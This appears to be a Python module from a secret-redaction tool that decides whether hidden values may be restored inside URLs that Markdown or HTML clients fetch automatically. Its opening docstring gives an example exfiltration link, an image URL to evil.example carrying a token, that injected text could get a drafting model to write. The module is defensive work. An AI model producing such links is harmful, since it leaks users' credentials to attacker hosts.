"""Whether a value may stand in an address that a client might fetch by itself.

Text for the person is restored everywhere but in such addresses: a client that renders Markdown or
HTML fetches an image, and some fetch a link to show what it leads to, before anyone has read the
text. Whoever can put text before a drafter can ask for `![x](https://evil.example/?q=TOKEN)`. So:

1. A token in an address comes back if the host of the address is known for the value (see
   `calls.py`), is this machine, or is the value: a hidden host name, a host below a hidden domain,
   the host in a hidden address. Otherwise it stays a token. Several in one host and user name come
   back together or not at all.
2. An address begins with a scheme that clients fetch (http, ws, ftp, file, smb, ...), with `//` or
   `\\\\` where no scheme stands before, or with `www.`; also where entities, Markdown's backslashes
   or the tabs and line breaks that browsers skip hide it. The addresses of data bases, mail and
   shells begin none: nothing fetches `postgres://`.
3. It ends at a blank or a line break; quotes and brackets do not end it, because they do not end it
   in Markdown. Three do not run to a blank: after a quote it runs to that quote and after `<` to
   `>`, whatever stands between, and after `[` to `]`. Of addresses within one another all must
   allow the value.
4. Its host is read as `places.host` reads one, with the values in it. It cannot be read for
   certain, and no value stands there, where the address has more or fewer than two slashes, a
   backslash or a mark spelt as an entity behind them, or a host and user name that go on for 4096
   characters behind the token.

Not covered: a client that runs scripts, submits forms or follows `<base>` of a text it was given.
"""

from __future__ import annotations

import html
import re
from collections.abc import Collection, Iterable
from dataclasses import dataclass, replace

from undersign.policy.restoring import places
from undersign.policy.scope import Scope
from undersign.policy.tokens import PREFIX, TOKEN

FARTHEST = 4096
"""Characters behind a token in which the end of the host must stand."""
UNKNOWN = "an address in the text leads to a host at which the value was not seen"
UNREADABLE = "the host of an address in the text cannot be read for certain"
_LOCAL = ""
"""The place of an address without a host: a file of this machine."""
_MOST = 16
_CONTEXT = 64

_SPELT = "\0"
"""Stands before a mark that an entity spells: not every reader reads entities."""
_GAP = r"[\t\r\n\0]*+"
_FETCHED = ("https", "http", "wss", "ws", "ftps", "ftp")
_SPLIT = "|".join(map(_GAP.join, _FETCHED))
_JOINED = "|".join(map("\0?".join, _FETCHED))
_COLON = "\\\\?\0?:"
_SLASH = r"\0?[\\/]"
_START = (
    # Inside quotes a browser skips blanks before the address, and line breaks and tabs within it.
    rf"(?:(?<=[=(\s])[\"'][\x00-\x20]*+|[\"'])(?:(?:{_SPLIT}){_GAP}{_COLON}|(?={_SLASH}{_GAP}[\\/]))"
    rf"(?P<quoted>(?:{_GAP}[\\/])*)(?! )"
    rf"|(?:(?<![a-z0-9])(?:{_JOINED}){_COLON}|https?{_COLON}(?={_SLASH}))(?P<slashes>(?:{_SLASH})*)"
    rf"|(?<![a-z0-9])(?P<share>file|smb|afp|nfs|dav|davs|webdav|gopher|rtsp|rtmp|mms){_COLON}"
    rf"(?P<behind>(?:{_SLASH}){{2,}})"
    rf"|(?<![a-z0-9])(?P<runs>(?:javascript|vbscript){_COLON}|data{_COLON}(?=[\w.+-]*[/;,\0]))"
    rf"|(?:(?<![\w:/\\.~-])|(?<=\]:))(?P<relative>(?:{_SLASH}){{2,}})(?!\0?[\\/ ])"
    r"|(?<![\w.@/:-])(?P<www>www\0?\.)"
)
_BEGINS = re.compile(_START, re.IGNORECASE)
_EVENT = re.compile(rf"{_START}|\\[^a-z0-9\s]?|[ \t\n\r\f\"'<>\]/?#\0]", re.IGNORECASE)
_OPENED = re.compile(r"(?:^|[=(\s])([\"'])[\x00-\x20]+\Z|(\\?[\"']|<|\[)\Z")
_ENTITY = re.compile(r"&(?:#\d{1,8}|#x[0-9a-f]{1,7}|[a-z]{2,12});?", re.IGNORECASE)
_UNFINISHED = re.compile(r"(?:&[#\w]{0,14}|\\)\Z")
_LAST = "*_~`.,;:!?)]}>\"'|<\u3002\u3001\uff0c\uff09\uff1a\uff1b\uff01\uff1f\u300d\u2026"
_NO_HOST = re.compile(r"[<>^|]")
"""Of a host without a user name: no reader takes these into it."""


@dataclass(slots=True, eq=False)
class _Address:
    """An address that some reader may still be in."""

    closer: str
    """`"`, `'` (behind a backslash, too), `<`, `[`, or a blank: what it began behind."""
    authority: str | None
    """The text of user name, host and port so far; None when its place is known."""
    place: str = ""
    """Of its host, as it was read where host and user name end."""
    spoiled: bool = False
    """Whether something behind that makes readers take another host."""

    def ended_by(self, mark: str) -> bool:
        if self.closer == "<":
            return mark in "<>\r\n"
        if self.closer == "[" and mark == "]":
            return True
        return mark == self.closer if self.closer[-1] in "\"'" else mark in " \t\r\n\f"

    def take(self, mark: str) -> None:
        if mark[0] in f"\\{_SPELT}":
            # Some readers take a backslash for a slash, some for a letter, some leave it out.
            self.spoil()
        elif mark in "/?#":
            self.read()
        elif mark not in "\t\r\n":
            self.more(mark)

    def more(self, text: str) -> None:
        if self.authority is not None:
            self.authority += text
            if len(self.authority) > 2 * FARTHEST:
                self.spoil()

    def read(self) -> None:
        if self.authority is not None:
            self.place = _place(self.authority)
            self.authority = None

    def spoil(self) -> None:
        if self.authority is not None:
            self.authority, self.place = None, places.UNREADABLE
        self.spoiled = True


class Addresses:
    """Reads one text, or the parts of one reply, and judges the tokens in it."""

    __slots__ = ("_open", "_scope", "_tail", "_unread")

    def __init__(self, scope: Scope) -> None:
        self._scope = scope
        self._open: list[_Address] = []
        self._tail = ""
        self._unread: list[str] = []

    def read(self, text: str) -> None:
        """Take what the client gets next, with the values that are back in it."""
        self._unread.append(text)

    def reason(self, token: str, after: str, *, last: bool) -> str | None:
        """Return why a token of the scope stays here; empty if not, None if more must be seen.

        `after` is what follows it, FARTHEST characters or all of it if `last`.
        """
        if self._unread:
            text, self._unread = "".join(self._unread), []
            self._advance(text)
        ahead = Addresses(self._scope)
        ahead._open = [replace(address) for address in self._open]
        ahead._tail = self._tail
        around = [*ahead._open]
        around += ahead._advance(self._scope.value(token) or "")
        if not around:
            return ""
        here = {a.place for a in around if a.authority is None}
        if any(a.spoiled for a in around):
            here.add(places.UNREADABLE)
        far = len(after) >= FARTHEST
        waiting = [a for a in around if a.authority is not None]
        tokens = ahead._tokens_before_the_end(waiting, after[:FARTHEST], last=last or far)
        if any(a.authority is not None for a in waiting):
            if far or not last:
                return UNREADABLE if far else None
            for address in waiting:
                address.read()
        return _reason(self._scope, {token, *tokens}, here | {a.place for a in waiting})

    def _tokens_before_the_end(
        self, waiting: list[_Address], after: str, *, last: bool
    ) -> list[str]:
        """Read on to where the hosts end; return the tokens that stand before."""
        if not last:
            after = _UNFINISHED.sub("", after)
        tokens: list[str] = []
        position = 0
        for found in [*TOKEN.finditer(after), None]:
            if all(address.authority is None for address in waiting):
                break
            self._advance(after[position : found.start() if found else None])
            if found is None or all(address.authority is None for address in waiting):
                break
            value = self._scope.value(found[0])
            if value is not None and not self._scope.quotes(found[0]):
                tokens.append(found[0])
            self._advance(found[0] if value is None else value)
            position = found.end()
        return tokens

    def _advance(self, text: str) -> list[_Address]:
        """Read on; return the addresses that began."""
        full = self._tail + _ENTITY.sub(_decoded, text)
        done = len(self._tail)
        position = 0
        begun: list[_Address] = []
        while found := (_EVENT if self._open else _BEGINS).search(full, position):
            position = max(found.end(), found.start() + 1)
            if found.end() <= done:
                continue
            self._more(full[done : found.start()])
            marks = full[max(done, found.start()) : found.end()]
            if found.lastgroup:
                for mark in marks:
                    self._mark(mark)
                begun.append(self._begin(full, found))
            else:
                self._mark(marks)
            done = found.end()
        self._more(full[done:])
        self._tail = full[-_CONTEXT:]
        return begun

    def _more(self, text: str) -> None:
        for address in self._open if text else ():
            address.more(text)

    def _mark(self, mark: str) -> None:
        for address in self._open:
            if address.ended_by(mark):
                address.read()
            else:
                address.take(mark)
        self._open = [address for address in self._open if not address.ended_by(mark)]

    def _begin(self, full: str, found: re.Match[str]) -> _Address:
        address = _begun(full, found)
        if len(self._open) >= _MOST:
            for other in self._open:
                if other.closer == address.closer:
                    other.spoil()
                    return other
        self._open.append(address)
        return address


def _begun(full: str, found: re.Match[str]) -> _Address:
    slashes = re.sub(r"[\t\r\n\0]", "", found[found.lastgroup or 0])
    before = full[: found.start()]
    if found.lastgroup == "quoted":
        closer = "\\" * before.endswith("\\") + full[found.start()]
    else:
        opened = _OPENED.search(before[-_CONTEXT:])
        closer = (opened[1] or opened[2]) if opened else " "
    if found.lastgroup == "www":
        return _Address(closer, "www.")
    if found["share"] and found["share"].lower() == "file" and slashes == "///":
        return _Address(closer, None, _LOCAL)
    if slashes != "//":
        return _Address(closer, None, places.UNREADABLE)
    return _Address(closer, "")


def _decoded(entity: re.Match[str]) -> str:
    """Return what an entity spells, unless that ends an address only where it is not spelt."""
    text = html.unescape(entity[0])
    if text in ("\t", "\n", "\r"):
        return _SPELT  # browsers leave them out
    if len(text) == 1 and text in ":/\\.@?#%-":
        return _SPELT + text
    return text if text.isascii() and text.isalnum() else entity[0]


def _place(authority: str) -> str:
    name = authority.rpartition("@")[2]
    if "@" not in authority:
        name = _NO_HOST.split(name)[0]
    six = re.match(r"\[[0-9a-f:.]+\](?::\d*)?", name, re.IGNORECASE)
    if six and not name[six.end() :].strip(_LAST):
        return places.host(name[: name.index("]") + 1])
    return places.host(re.sub(r":\d*\Z", "", name.rstrip(_LAST)))


def _reason(scope: Scope, tokens: Iterable[str], hosts: Collection[str]) -> str:
    if places.UNREADABLE in hosts:
        return UNREADABLE
    may = all(_may_stand(scope, token, host) for token in tokens for host in hosts)
    return "" if may else UNKNOWN


def _may_stand(scope: Scope, token: str, host: str) -> bool:
    if host in (_LOCAL, "host:localhost", "host:::1") or host.endswith(".localhost"):
        return True
    if re.fullmatch(r"host:127(?:\.\d+){3}", host):
        return True
    value = scope.value(token) or ""
    itself = places.host(value)
    # A word without a dot can be a password, which would become a question to a name server.
    is_host = itself in places.named(value) or token.startswith(f"{PREFIX}HOST_")
    below = is_host and host.endswith(f".{itself.removeprefix('host:')}")
    own = places.named(value) | ({itself} if is_host else set())
    return host in scope.known(value) | own or below
